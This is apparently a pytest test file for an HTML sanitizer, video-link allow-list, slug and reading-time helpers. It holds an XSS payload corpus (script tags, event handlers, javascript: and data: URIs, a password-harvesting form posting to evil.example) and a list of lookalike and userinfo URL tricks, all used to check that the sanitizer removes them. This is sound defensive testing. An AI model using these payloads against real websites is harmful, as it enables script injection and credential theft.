"""Learn content safety: an XSS corpus never survives `sanitize_html`, benign HTML survives exactly,
video links are allow-listed (https, exact hosts, rebuilt embeds), slugs and reading time."""

from __future__ import annotations

import re

import pytest

from core.html_safety import (
    VideoUrlError,
    allowed_video_sources,
    html_to_text,
    is_https_url,
    normalise_hosts,
    parse_video_url,
    read_minutes,
    sanitize_html,
    slugify,
    text_excerpt,
    video_embed_url,
    word_count,
)

XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://cdn.example/a.png" onerror="alert(1)" onload="alert(2)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://evil.example"></iframe>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<div style="background:url(javascript:alert(1))">text</div>',
    '<p style="position:fixed;top:0">overlay</p>',
    '<p class="stButton" id="login">imitation</p>',
    "<style>body{display:none}</style>",
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<p onclick="alert(1)" onmouseover="alert(2)">hover</p>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
]


FORBIDDEN_IN_OUTPUT = (
    "<script", "javascript:", "vbscript:", "style=", "<style", "<iframe", "<svg", "<math", "<object", "<embed",
    "<form", "<input", "<meta", "<base", "<link", "data:", "class=", "id=", "<video", "<details",
)  # fmt: skip


def _no_dangerous_markup(html: str) -> None:
    lowered = html.lower()
    for needle in FORBIDDEN_IN_OUTPUT:
        assert needle not in lowered, (needle, html)
    assert not re.search(r"\son[a-z]+\s*=", lowered), html


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_xss_payload_never_survives(payload: str) -> None:
    cleaned = sanitize_html(payload)
    _no_dangerous_markup(cleaned)
    # Sanitising is stable: the read-time pass leaves saved content unchanged.
    assert sanitize_html(cleaned) == cleaned


def test_whole_corpus_in_one_document_is_clean() -> None:
    _no_dangerous_markup(sanitize_html("<p>intro</p>" + "".join(XSS_CORPUS) + "<p>outro</p>"))


def test_javascript_link_keeps_its_text_but_loses_its_href() -> None:
    assert sanitize_html('<a href="JaVaScRiPt:alert(1)">Click</a>') == (
        '<a target="_blank" rel="noopener noreferrer nofollow">Click</a>'
    )


def test_disallowed_wrappers_keep_their_text_and_script_content_is_dropped() -> None:
    assert sanitize_html('<div style="color:red">Hello <span>there</span></div>') == "Hello there"
    assert sanitize_html("<p>a<script>alert(1)</script>b</p>") == "<p>ab</p>"
    assert sanitize_html('<p style="position:fixed;top:0">p</p>') == "<p>p</p>"


BENIGN = (
    "<h2>Start here</h2><h3>Then</h3><h4>Finally</h4>"
    "<p>Read <strong>this</strong> and <em>that</em>, <b>bold</b> <i>italic</i>.<br>Next line</p>"
    "<ul><li>One</li><li>Two</li></ul><ol><li>First</li></ol>"
    "<blockquote>A quote</blockquote><pre><code>price = 19.99</code></pre><hr>"
    '<img src="https://cdn.example.com/chart.png" alt="A chart">'
    "<table><thead><tr><th>Price</th></tr></thead><tbody><tr><td>$19</td></tr></tbody></table>"
)


def test_benign_content_survives_exactly() -> None:
    assert sanitize_html(BENIGN) == BENIGN


def test_links_keep_https_http_and_mailto_with_safe_rel_and_new_tab() -> None:
    rel = 'target="_blank" rel="noopener noreferrer nofollow"'
    assert sanitize_html('<p><a href="https://example.com/a?x=1&amp;y=2">guide</a></p>') == (
        f'<p><a href="https://example.com/a?x=1&amp;y=2" {rel}>guide</a></p>'
    )
    assert sanitize_html('<a href="http://example.com">h</a>') == f'<a href="http://example.com" {rel}>h</a>'
    assert sanitize_html('<a href="mailto:help@example.com">m</a>') == f'<a href="mailto:help@example.com" {rel}>m</a>'
    # An admin's own target/rel cannot weaken it (rel=opener would give the new tab our window).
    assert sanitize_html('<a href="https://e.com" target="_self" rel="opener">e</a>') == (
        f'<a href="https://e.com" {rel}>e</a>'
    )


@pytest.mark.parametrize("href", ["/relative/page", "//evil.example/x", "ftp://files.example/x", "tel:123"])
def test_relative_and_other_scheme_links_lose_their_href(href: str) -> None:
    assert "href" not in sanitize_html(f'<a href="{href}">x</a>')


@pytest.mark.parametrize(
    ("src", "kept"),
    [("https://cdn.example/a.png", True), ("HTTPS://cdn.example/a.png", True), ("http://cdn.example/a.png", False),
     ("//cdn.example/a.png", False), ("a.png", False), ("data:image/png;base64,iVBOR", False)],
)  # fmt: skip
def test_images_only_from_https(src: str, kept: bool) -> None:
    assert ("src=" in sanitize_html(f'<img src="{src}" alt="x">')) is kept


def test_empty_input() -> None:
    assert sanitize_html("") == ""


# ----------------------------------------------------------------------------------------------- text helpers


def test_html_to_text_separates_blocks_and_unescapes() -> None:
    assert html_to_text("<h2>Title</h2><p>One&nbsp;two &amp; <b>three</b></p><ul><li>a</li><li>b</li></ul>") == (
        "Title One two & three a b"  # &nbsp; is whitespace too
    )
    assert html_to_text("<p>x</p><script>var hidden = 1</script><style>p{}</style>") == "x"


def test_word_count_and_read_minutes() -> None:
    assert word_count("<p>one two</p><p>three</p>") == 3
    assert read_minutes(0) == 1  # never less than a minute
    assert read_minutes(299) == 1  # 1.495 → 1
    assert read_minutes(300) == 2  # 1.5 rounds half up → 2
    assert read_minutes(500) == 3  # 2.5 → 3
    assert read_minutes(1000) == 5  # 1000 / 200 = 5


def test_text_excerpt_cuts_at_a_word() -> None:
    assert text_excerpt("short text") == "short text"
    text = "word " * 50  # 250 characters
    excerpt = text_excerpt(text, max_chars=22)
    # first 21 chars "word word word word w" → cut back to the last space → "word word word word" + "…"
    assert excerpt == "word word word word…"


# ----------------------------------------------------------------------------------------------- slugs


@pytest.mark.parametrize(
    ("title", "slug"),
    [
        ("How to Price a Digital Product", "how-to-price-a-digital-product"),
        ("  Tips & Tricks for Sellers' Café  ", "tips-and-tricks-for-sellers-cafe"),
        ("SEO: 10 quick wins!!!", "seo-10-quick-wins"),
        ("Straße, Ærø & Łódź", "strasse-aero-and-lodz"),
        ("--- a -- b ---", "a-b"),
        ("100% _real_ growth", "100-real-growth"),
    ],
)
def test_slugify(title: str, slug: str) -> None:
    assert slugify(title) == slug


def test_slugify_is_never_empty_and_differs_per_title() -> None:
    first, second = slugify("定价指南"), slugify("营销指南")
    assert re.fullmatch(r"resource-[0-9a-f]{8}", first)
    assert re.fullmatch(r"resource-[0-9a-f]{8}", second)
    assert first != second
    assert slugify("").startswith("resource-")


def test_slugify_caps_length_without_half_words() -> None:
    slug = slugify("word " * 30)  # "word-word-…": 16 words = 16*4 + 15 hyphens = 79 characters ≤ 80
    assert slug == "-".join(["word"] * 16)
    assert len(slug) == 79
    assert slugify("a" * 100) == "a" * 80  # one long word is cut, not dropped
    assert "--" not in slugify("a - - b")


# ----------------------------------------------------------------------------------------------- video links

YOUTUBE_EMBED = "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"


@pytest.mark.parametrize(
    ("url", "embed"),
    [
        ("https://www.youtube.com/watch?v=dQw4w9WgXcQ", YOUTUBE_EMBED),
        ("https://youtube.com/watch?v=dQw4w9WgXcQ&list=PL1", YOUTUBE_EMBED),
        ("https://m.youtube.com/watch?v=dQw4w9WgXcQ", YOUTUBE_EMBED),
        ("https://youtu.be/dQw4w9WgXcQ", YOUTUBE_EMBED),
        ("  https://youtu.be/dQw4w9WgXcQ  ", YOUTUBE_EMBED),
        ("https://www.youtube.com/embed/dQw4w9WgXcQ", YOUTUBE_EMBED),
        ("https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ", YOUTUBE_EMBED),
        ("https://www.youtube.com/shorts/dQw4w9WgXcQ", YOUTUBE_EMBED),
        ("HTTPS://WWW.YOUTUBE.COM/watch?v=dQw4w9WgXcQ", YOUTUBE_EMBED),
        ("https://youtu.be/dQw4w9WgXcQ?t=90", YOUTUBE_EMBED + "?start=90"),
        ("https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=1m30s", YOUTUBE_EMBED + "?start=90"),  # 60 + 30
        ("https://vimeo.com/76979871", "https://player.vimeo.com/video/76979871"),
        ("https://www.vimeo.com/76979871", "https://player.vimeo.com/video/76979871"),
        ("https://vimeo.com/76979871/8a3b2c1d0e", "https://player.vimeo.com/video/76979871?h=8a3b2c1d0e"),
        ("https://player.vimeo.com/video/76979871", "https://player.vimeo.com/video/76979871"),
    ],
)
def test_allowed_video_links_become_rebuilt_embeds(url: str, embed: str) -> None:
    assert video_embed_url(url, extra_hosts=()) == embed


@pytest.mark.parametrize(
    "url",
    [
        "http://www.youtube.com/watch?v=dQw4w9WgXcQ",  # not https
        "http://vimeo.com/76979871",
        "https://youtube.com.evil.example/watch?v=dQw4w9WgXcQ",  # lookalike host
        "https://evil.example/youtube.com/watch?v=dQw4w9WgXcQ",  # host in the path
        "https://evil.example/?u=https://youtu.be/dQw4w9WgXcQ",
        "https://youtube.com@evil.example/",  # userinfo
        "https://www.youtube.com:443@evil.example/watch?v=dQw4w9WgXcQ",
        "https://evil.example\\@youtube.com/watch?v=dQw4w9WgXcQ",  # browsers read \ as /
        "https://www.youtube.com:8443/watch?v=dQw4w9WgXcQ",  # port
        "https://notyoutube.com/watch?v=dQw4w9WgXcQ",
        "https://www.youtube.com/watch?v=short",  # not an 11-character id
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ%22onload",
        "https://www.youtube.com/channel/UC123",  # not one video
        "https://vimeo.com/channels/staffpicks",
        "javascript:alert(1)//https://youtu.be/dQw4w9WgXcQ",
        "//youtu.be/dQw4w9WgXcQ",
        "youtu.be/dQw4w9WgXcQ",
        "https://you tu.be/dQw4w9WgXcQ",
        "https://yоutu.be/dQw4w9WgXcQ",  # Cyrillic "о"
        "",
    ],
)
def test_refused_video_links(url: str) -> None:
    assert video_embed_url(url, extra_hosts=("media.example.com",)) is None
    with pytest.raises(VideoUrlError):
        parse_video_url(url, extra_hosts=("media.example.com",))


def test_extra_hosts_exact_match_https_only() -> None:
    hosts = ("media.example.com",)
    assert video_embed_url("https://media.example.com/embed/42?autoplay=0#top", extra_hosts=hosts) == (
        "https://media.example.com/embed/42?autoplay=0"
    )
    assert video_embed_url("https://MEDIA.example.com/embed/42", extra_hosts=hosts) == (
        "https://media.example.com/embed/42"
    )
    assert video_embed_url("http://media.example.com/embed/42", extra_hosts=hosts) is None
    assert video_embed_url("https://sub.media.example.com/embed/42", extra_hosts=hosts) is None
    assert video_embed_url("https://media.example.com.evil.example/embed/42", extra_hosts=hosts) is None
    assert video_embed_url("https://media.example.com:444/embed/42", extra_hosts=hosts) is None
    assert video_embed_url("https://user@media.example.com/embed/42", extra_hosts=hosts) is None
    assert video_embed_url("https://media.example.com/embed/42", extra_hosts=()) is None


def test_extra_hosts_come_from_settings(monkeypatch: pytest.MonkeyPatch) -> None:
    from core.config import get_settings

    monkeypatch.setenv("LEARN_VIDEO_HOSTS", "Media.Example.com, videos.example.org")
    hosts = get_settings().learn_video_hosts
    assert hosts == ("media.example.com", "videos.example.org")
    assert video_embed_url("https://videos.example.org/v/1", extra_hosts=hosts) == "https://videos.example.org/v/1"


def test_normalise_hosts_ignores_entries_that_are_not_bare_hosts() -> None:
    assert normalise_hosts(
        ["Media.Example.com.", "https://x.example", "x.example:8443", "localhost", " v.example "]
    ) == (
        "media.example.com",
        "v.example",
    )


def test_refusal_messages_tell_the_editor_what_to_do() -> None:
    with pytest.raises(VideoUrlError) as info:
        parse_video_url("https://evil.example/v/1", extra_hosts=("media.example.com",))
    assert str(info.value) == (
        "Videos can be embedded from YouTube, Vimeo or media.example.com; this link is from evil.example."
    )
    with pytest.raises(VideoUrlError) as info:
        parse_video_url("https://evil.example/v/1")
    assert str(info.value) == "Videos can be embedded from YouTube or Vimeo; this link is from evil.example."
    with pytest.raises(VideoUrlError, match="https://"):
        parse_video_url("http://youtu.be/dQw4w9WgXcQ")
    with pytest.raises(VideoUrlError, match="user name"):
        parse_video_url("https://youtube.com@evil.example/")
    assert allowed_video_sources(["a.example", "b.example"]) == "YouTube, Vimeo, a.example or b.example"


@pytest.mark.parametrize(
    ("url", "ok"),
    [("https://cdn.example/t.png", True), ("http://cdn.example/t.png", False), ("https://u@cdn.example/t.png", False),
     ('https://cdn.example/t.png" onerror="x', False), ("javascript:alert(1)", False), ("", False)],
)  # fmt: skip
def test_is_https_url(url: str, ok: bool) -> None:
    assert is_https_url(url) is ok
